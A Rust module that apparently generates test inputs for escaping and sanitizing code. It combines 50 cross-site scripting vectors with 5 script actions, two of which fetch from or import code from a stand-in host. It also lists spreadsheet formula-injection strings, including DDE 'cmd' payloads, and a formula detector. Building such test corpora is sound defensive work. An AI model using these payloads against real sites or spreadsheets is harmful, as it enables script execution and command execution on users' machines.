//! Texts that do harm where they are taken for anything but text: as markup, as a script, as a link, as a formula.

/// What would be noticed if it ran: a mark on the window, a dialog, a word to somebody else, a changed title.
const DEEDS: [&str; 5] = [
    "window.hostile=1",
    "alert(1)",
    "fetch('https://evil.invalid/')",
    "import('https://evil.invalid/x.js')",
    "document.title='hostile'",
];

/// Ways to get there; `JS` stands for the deed.
const WAYS: [&str; 50] = [
    "<script>JS</script>",
    "\"><script>JS</script>",
    "'><script>JS</script>",
    "</textarea><script>JS</script>",
    "</title><script>JS</script>",
    "</style><script>JS</script>",
    "</script><script>JS</script>",
    "--><script>JS</script><!--",
    "</pre></code></td></tr></table><script>JS</script>",
    "<scr<script>ipt>JS</scr</script>ipt>",
    "<SCRIPT/x>JS</SCRIPT >",
    "<script type=module>JS</script>",
    "<img src=x onerror=JS>",
    "\"><img src=x onerror=\"JS\">",
    "<img/src/onerror=JS>",
    "<svg onload=JS>",
    "<svg/onload=JS//",
    "<svg><script>JS</script></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>",
    "<svg><a href=\"javascript:JS\"><text y=9>x</text></a></svg>",
    "<math><maction href=\"javascript:JS\">x</maction></math>",
    "<a href=\"javascript:JS\">x</a>",
    "[x](javascript:JS)",
    "javascript:JS//",
    "\" autofocus onfocus=\"JS\" x=\"",
    "' autofocus tabindex=1 onfocus='JS' x='",
    " onmouseover=JS style=position:fixed;inset:0 ",
    "<body onload=JS>",
    "<iframe srcdoc=\"<script>parent.JS</script>\"></iframe>",
    "<iframe src=\"javascript:parent.JS\"></iframe>",
    "<details open ontoggle=JS>x</details>",
    "<input autofocus onfocus=JS>",
    "<video><source onerror=JS></video>",
    "<object data=\"javascript:JS\"></object>",
    "<embed src=\"javascript:JS\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:JS\">",
    "<form action=\"javascript:JS\"><button autofocus>x</button></form>",
    "<base href=\"https://evil.invalid/\"><script>JS</script>",
    "<link rel=stylesheet href=\"https://evil.invalid/x.css\" onload=JS>",
    "<style>@import 'https://evil.invalid/x.css';</style><!--JS-->",
    "<div hx-get=\"https://evil.invalid/\" hx-trigger=\"load\" hx-on::load=\"JS\">x</div>",
    "<hx-partial hx-target=\"body\"><script>JS</script></hx-partial>",
    "{{constructor.constructor(\"JS\")()}}{% JS %}${JS}",
    "<template shadowrootmode=open><img src=x onerror=JS></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=JS>\">",
    "<![CDATA[<img src=x onerror=JS>]]>",
    "&lt;script&gt;JS&lt;/script&gt;",
    "\\u003cscript\\u003eJS\\u003c/script\\u003e",
    "%3Cscript%3EJS%3C/script%3E",
    "\"}]}</script><script>JS</script>",
];

/// What a spreadsheet would take for a formula.
pub const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"https://evil.invalid\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1\";=1+1",
    "+HYPERLINK(\"https://evil.invalid\")",
    "-1",
];

/// Every way to every deed, and the formulas: 258 texts, each another.
#[must_use]
pub fn payloads() -> Vec<String> {
    let scripts = WAYS.iter().flat_map(|way| DEEDS.iter().map(|deed| way.replace("JS", deed)));
    scripts.chain(FORMULAS.map(str::to_owned)).collect()
}

/// Whether a spreadsheet would take a cell for a formula.
#[must_use]
pub fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
}
